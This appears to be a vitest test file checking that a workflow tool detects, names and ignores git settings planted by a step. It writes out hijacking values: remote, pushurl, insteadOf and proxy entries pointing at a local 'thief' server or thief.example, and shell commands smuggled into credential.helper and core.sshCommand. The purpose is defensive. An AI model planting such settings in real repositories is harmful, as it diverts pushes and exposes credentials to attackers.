// @module-tag slow
import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createGit } from "../../src/git/process/git.ts";
import { listHeads } from "../../src/git/remote/code-source.ts";
import { push } from "../../src/git/remote/push.ts";
import { renderChange } from "../../src/git/settings/settings-guard.ts";
import { createSubmodules } from "../../src/git/submodules/submodules.ts";
import {
  findChangedSettings,
  saveSettings,
  readSavedSettings,
  releaseSettings,
} from "../../src/wiring/recorded-git-settings.ts";
import { remotesOf } from "../../src/wiring/repository-remotes.ts";
import { startCli, until } from "../support/cli/cli-process.ts";
import { runCli } from "../support/cli/cli.ts";
import { type GitServer, startGitServer } from "../support/git/git-server.ts";
import { createProject, type Project } from "../support/project.ts";

const TOKEN = "ghs_0123456789abcdefghijklmnopqrstuvwxyz";
const RUN = "20260131-k3f9qz";

interface Thief extends AsyncDisposable {
  readonly origin: string;
  /** What came in: lines of requests with their headers. */
  readonly heard: string[];
}

/** Notes what reaches it, as a proxy and as a server, and asks who is there. */
async function startThief(): Promise<Thief> {
  const heard: string[] = [];
  const note = ({ method, url, rawHeaders }: IncomingMessage) =>
    heard.push(`${method} ${url} ${rawHeaders.join(" ")}`);
  const server = createServer((request, response) => {
    note(request);
    response.writeHead(401, { "WWW-Authenticate": 'Basic realm="all"' }).end();
  });
  server.on("connect", (request, socket) => {
    note(request);
    socket.end("HTTP/1.1 403 No\r\n\r\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    heard,
    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

interface Place {
  readonly project: Project;
  readonly server: GitServer;
  readonly thief: Thief;
  readonly environment: Readonly<Record<string, string>>;
}

/** A plant ends in one of these places: a request to another server, or a program that runs. */
const PLANTS: Readonly<Record<string, (place: Place) => readonly (readonly string[])[]>> = {
  "http.proxy": ({ thief }) => [["http.proxy", thief.origin]],
  "http.<url>.proxy": ({ thief, server }) => [[`http.${new URL(server.url).origin}/.proxy`, thief.origin]],
  "remote.origin.proxy": ({ thief }) => [["remote.origin.proxy", thief.origin]],
  "remote.origin.url": ({ thief }) => [["remote.origin.url", `${thief.origin}/x.git`]],
  "remote.origin.pushurl": ({ thief }) => [["remote.origin.pushurl", `${thief.origin}/x.git`]],
  "url.*.insteadOf": ({ thief, server }) => [
    [`url.${thief.origin}/.insteadOf`, `${new URL(server.url).origin}/`],
  ],
  "url.*.pushInsteadOf": ({ thief, server }) => [
    [`url.${thief.origin}/.pushInsteadOf`, `${new URL(server.url).origin}/`],
  ],
  "http.extraHeader": ({ thief }) => [
    ["http.extraHeader", "X-Planted: yes"],
    ["http.proxy", thief.origin],
  ],
  "http.sslVerify and a proxy": ({ thief }) => [
    ["http.sslVerify", "false"],
    ["http.proxy", thief.origin],
  ],
  "core.sshCommand": ({ project }) => [
    ["core.sshCommand", `touch ${project.home}/ran; false`],
    ["remote.origin.url", "ssh://git@127.0.0.1/x.git"],
  ],
  "credential.helper": ({ project }) => [["credential.helper", `!touch ${project.home}/ran; cat >&2; :`]],
  "include.path": ({ project }) => [["include.path", join(project.home, "planted.config")]],
  "branch.main.pushRemote": ({ thief }) => [
    ["remote.other.url", `${thief.origin}/x.git`],
    ["branch.main.pushRemote", "other"],
  ],
};

async function createPlace(): Promise<Place & AsyncDisposable> {
  const server = await startGitServer({ token: TOKEN });
  const thief = await startThief();
  const project = createProject();
  project.git("remote", "add", "origin", server.url);
  project.git("push", "--quiet", server.directory, "main");
  const { origin } = new URL(server.url);
  writeFileSync(join(project.home, "planted.config"), `[http]\n\tproxy = ${thief.origin}\n`);
  const hook = join(project.home, "hooks", "pre-push");
  project.write("../home/hooks/pre-push", `#!/bin/sh\ntouch ${project.home}/ran\n`);
  chmodSync(hook, 0o755);
  return {
    project,
    server,
    thief,
    environment: { ...project.environment, GITHUB_TOKEN: TOKEN, GITHUB_SERVER_URL: origin },
    [Symbol.asyncDispose]: async () => {
      project[Symbol.dispose]();
      await thief[Symbol.asyncDispose]();
      await server[Symbol.asyncDispose]();
    },
  };
}

type Source = NonNullable<ReturnType<Awaited<ReturnType<typeof remotesOf>>["choose"]>>;

/** Where an engine that was just started pushes to, and reads. */
async function sourceOf({ project, environment }: Place): Promise<Source> {
  const source = (await remotesOf({ root: project.root, environment: { ...environment } })).choose("main");
  if (!source) throw new Error("There is no remote.");
  return source;
}

describe("what a step plants in git's configuration is not followed, and named", () => {
  let place: Place & AsyncDisposable;
  let before: Source;
  let texts: readonly (readonly [string, string])[];

  beforeAll(async () => {
    place = await createPlace();
    const { project, environment } = place;
    before = await sourceOf(place);
    await saveSettings({ root: project.root, environment }, RUN);
    const files = [join(project.root, ".git/config"), join(project.home, ".gitconfig")];
    texts = files.map((file) => [file, readFileSync(file, "utf8")]);
  });
  afterAll(() => place[Symbol.asyncDispose]());

  const inBoth = [
    "http.proxy",
    "remote.origin.pushurl",
    "url.*.insteadOf",
    "credential.helper",
    "include.path",
  ];
  const cases = [
    ...Object.keys(PLANTS).map((name) => [name, "--local"]),
    ...inBoth.map((name) => [name, "--global"]),
  ];
  test.each(cases)("%s (%s)", async (name = "", scope = "") => {
    const { project, thief, environment } = place;
    const planted = PLANTS[name]?.(place) ?? [];
    for (const [key = "", value = ""] of planted) project.git("config", scope, "--add", key, value);
    expect([...(await listHeads(await sourceOf(place), ["main"])).keys()]).toEqual(["main"]);
    const { changes } = await findChangedSettings({ root: project.root, environment });
    for (const [file, text] of texts) writeFileSync(file, text);
    expect(thief.heard).toEqual([]);
    expect(existsSync(join(project.home, "ran"))).toBe(false);
    expect(changes.length).toBeGreaterThan(0);
  });

  test("not by an engine either that reads and pushes while it is planted", async () => {
    const { project, thief } = place;
    for (const scope of ["--local", "--global"])
      for (const key of ["http.proxy", "remote.origin.proxy"])
        project.git("config", scope, key, thief.origin);
    expect([...(await listHeads(before, ["main"])).keys()]).toEqual(["main"]);
    for (const [file, text] of texts) writeFileSync(file, text);
    expect(thief.heard).toEqual([]);
  });

  test("hooks do not run when the engine pushes", async () => {
    const { project } = place;
    for (const scope of ["--local", "--global"])
      project.git("config", scope, "core.hooksPath", join(project.home, "hooks"));
    project.write(".git/hooks/pre-push", readFileSync(join(project.home, "hooks", "pre-push"), "utf8"));
    chmodSync(join(project.root, ".git/hooks/pre-push"), 0o755);
    const branches = new Map([["agentic/x", project.git("rev-parse", "HEAD")]]);
    expect(await push(await sourceOf(place), { state: new Map(), branches, shallow: [] })).toEqual({
      status: "landed",
    });
    expect(existsSync(join(project.home, "ran"))).toBe(false);
  });

  test("a run that ends leaves the settings from before in force as long as they differ", async () => {
    const { project, environment } = place;
    const here = { root: project.root, environment };
    project.git("config", "http.proxy", place.thief.origin);
    await releaseSettings(here, RUN);
    expect((await findChangedSettings(here)).changes.map(({ key }) => key)).toEqual(["http.proxy"]);
    await saveSettings(here, "20260201-k3f9qz");
    project.git("config", "--unset", "http.proxy");
    await releaseSettings(here, "20260201-k3f9qz");
    project.git("config", "http.proxy", place.thief.origin);
    expect((await findChangedSettings(here)).changes).toEqual([]);
  });
});

const FLOW = `name: flow
version: "1.0"
settings: { git: { worktree: true, auto-commit: true } }
steps:
  - { name: before, type: script, run: 'bash "$HOME/plant.sh"' }
  - { name: ask, type: wait-for-human, message: Go on? }
  - { name: after, type: script, run: echo after > after.txt }
`;

/** A run that has paused after its step ran a script. */
async function pausedAfter(script: string) {
  const server = await startGitServer({ token: TOKEN });
  const thief = await startThief();
  const project = createProject({ workflows: { flow: FLOW } });
  project.git("remote", "add", "origin", server.url);
  project.git("push", "--quiet", server.directory, "main");
  const { origin } = new URL(server.url);
  const environment = { GITHUB_TOKEN: TOKEN, GITHUB_SERVER_URL: origin };
  writeFileSync(
    join(project.home, "plant.sh"),
    script.replaceAll("$THIEF", thief.origin).replace("$HOST", new URL(thief.origin).host),
  );
  const cli = (...argv: string[]) => runCli(project, argv, { environment });
  const first = await cli("run", "flow");
  expect(first.code).toBe(3);
  return {
    project,
    server,
    thief,
    first,
    cli,
    runId: project.runs()[0] ?? "",
    [Symbol.asyncDispose]: async () => {
      project[Symbol.dispose]();
      await thief[Symbol.asyncDispose]();
      await server[Symbol.asyncDispose]();
    },
  };
}

describe("a run that paused after a step changed where git's remotes are", () => {
  test(
    "pushes where it did before, in every command, and names the change until a person accepts it",
    { tags: "slow" },
    async () => {
      await using run = await pausedAfter(
        'git config remote.origin.pushurl "$THIEF/x.git"; git config http.proxy "http://me:s3cret@$HOST"',
      );
      const { project, server, thief, cli, runId } = run;
      expect(run.first.stderr).toMatch(/changed while the step ran: .*remote\.origin\.pushurl = http/);
      await cli("status", runId);
      await cli("list");
      const answered = await cli("input", runId, "Good.", "--resume");
      expect(answered.code).toBe(0);
      expect(answered.stderr).toMatch(
        /remote\.origin\.pushurl = http:\S+\/x\.git; http\.proxy = http:\/\/127/,
      );
      expect(answered.stderr).not.toContain("s3cret");
      expect(
        [...server.refs().keys()].filter((ref) => ref.startsWith("refs/heads/agentic/flow-")),
      ).toHaveLength(1);
      expect(thief.heard).toEqual([]);

      const next = await cli("run", "flow");
      expect(next.code).toBe(3);
      expect(thief.heard).toEqual([]);
      const [, version = ""] = /--trust-remotes ([0-9a-f]+)/.exec(next.stderr) ?? [];
      const [, later = ""] = project.runs();
      expect(await cli("resume", later, "--trust-remotes", "0".repeat(20))).toMatchObject({
        code: 2,
        stderr: expect.stringContaining(version),
      });
      await cli("resume", later, "--trust-remotes", version);
      expect(thief.heard.length).toBeGreaterThan(0);
    },
  );

  test(
    "uses what is configured once nothing differs any more, and no run is unfinished",
    { tags: "slow" },
    async () => {
      await using run = await pausedAfter('git config remote.origin.pushurl "$THIEF/x.git"');
      const { project, cli, runId } = run;
      project.git("config", "--unset", "remote.origin.pushurl");
      const { code, stderr } = await cli("input", runId, "Good.", "--resume");
      expect(code).toBe(0);
      expect(stderr).not.toContain("--trust-remotes");
      const folder = join(project.home, ".local/state/agentic-sdlc");
      const kept = readdirSync(folder, { recursive: true, encoding: "utf8" });
      expect(kept.filter((path) => path.includes("settings/"))).toEqual([]);
    },
  );

  test("sets back what a step broke whose engine was killed with it", { tags: "slow" }, async () => {
    using project = createProject({ workflows: { flow: FLOW } });
    writeFileSync(join(project.home, "plant.sh"), "");
    expect((await runCli(project, ["run", "flow"])).code).toBe(3);
    project.git("config", "core.bare", "true");
    const { code, stderr } = await runCli(project, ["input", project.runs()[0] ?? "", "Good.", "--resume"]);
    expect(code).toBe(0);
    expect(stderr).toContain("core.bare was restored");
    expect(project.git("status", "--porcelain")).toBe("");
  });

  test(
    "is forgotten with its settings once it is gone, when the next run ends",
    { tags: "slow" },
    async () => {
      using project = createProject({ workflows: { flow: FLOW } });
      writeFileSync(join(project.home, "plant.sh"), "");
      expect((await runCli(project, ["run", "flow"])).code).toBe(3);
      rmSync(project.runFolder(), { recursive: true });
      expect((await runCli(project, ["run", "flow"])).code).toBe(3);
      expect((await runCli(project, ["cancel", project.runs()[0] ?? ""])).code).toBe(0);
      expect(readSavedSettings(project)).toBeUndefined();
    },
  );

  test("keeps its settings while it is interrupted, whatever other run ends meanwhile", async () => {
    using project = createProject({ workflows: { flow: FLOW } });
    const plant = join(project.home, "plant.sh");
    writeFileSync(plant, 'touch "$HOME/here"; sleep 600');
    await using interrupted = startCli(project, ["run", "flow"]);
    await until("the step works", () => existsSync(join(project.home, "here")));
    interrupted.child.kill("SIGTERM");
    await interrupted.ended;
    expect(project.progress()).toMatchObject({ status: "cancelled", reason: "interrupted" });
    writeFileSync(plant, "");
    expect((await runCli(project, ["run", "flow"])).code).toBe(3);
    expect((await runCli(project, ["cancel", project.runs().at(-1) ?? ""])).code).toBe(0);
    expect(readSavedSettings(project)).toBeDefined();
  });

  test("keeps its files here where there was no remote before its first step", { tags: "slow" }, async () => {
    await using thief = await startThief();
    using project = createProject({ workflows: { flow: FLOW } });
    writeFileSync(join(project.home, "plant.sh"), `git remote add origin ${thief.origin}/x.git`);
    const environment = { GITHUB_TOKEN: TOKEN, GITHUB_SERVER_URL: thief.origin };
    expect((await runCli(project, ["run", "flow"], { environment })).code).toBe(3);
    const [runId = ""] = project.runs();
    for (const argv of [["list"], ["status", runId], ["input", runId, "Good.", "--resume"]])
      expect((await runCli(project, argv, { environment })).code).toBe(0);
    expect(thief.heard).toEqual([]);
  });
});

describe("what the settings of git keep besides", () => {
  test("addresses of submodules: a changed one is named and not followed", async () => {
    using project = createProject();
    const { root, environment } = project;
    const lib = join(project.home, "lib");
    project.git("init", "--quiet", lib);
    project.git("-C", lib, "commit", "--quiet", "--allow-empty", "-m", "Start");
    project.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", lib, "lib");
    await saveSettings(project, RUN);
    project.git("-C", "lib", "config", "remote.origin.url", "http://thief.example/x.git");
    const { changes } = await findChangedSettings(project);
    expect(changes.map(renderChange)).toEqual([
      `submodule.${root}/.git/modules/lib.origin = http://thief.example/x.git`,
    ]);
    const git = createGit(root, environment);
    const submodules = createSubmodules({
      repository: { root, git },
      savedSettings: () => readSavedSettings(project),
    });
    await submodules.recordOrigins(git);
    expect(submodules.originOf(join(root, ".git/modules/lib"))?.url).toBe(lib);
  });

  test("those that the linked worktrees of a repository share, also where a run works in another one", async () => {
    using project = createProject();
    const other = join(project.home, "other");
    project.git("worktree", "add", "--quiet", other);
    await saveSettings(project, RUN);
    project.git("config", "http.proxy", "http://thief.example");
    const { changes } = await findChangedSettings({ root: other, environment: project.environment });
    expect(changes.map(renderChange)).toEqual(["http.proxy = http://thief.example"]);
  });
});
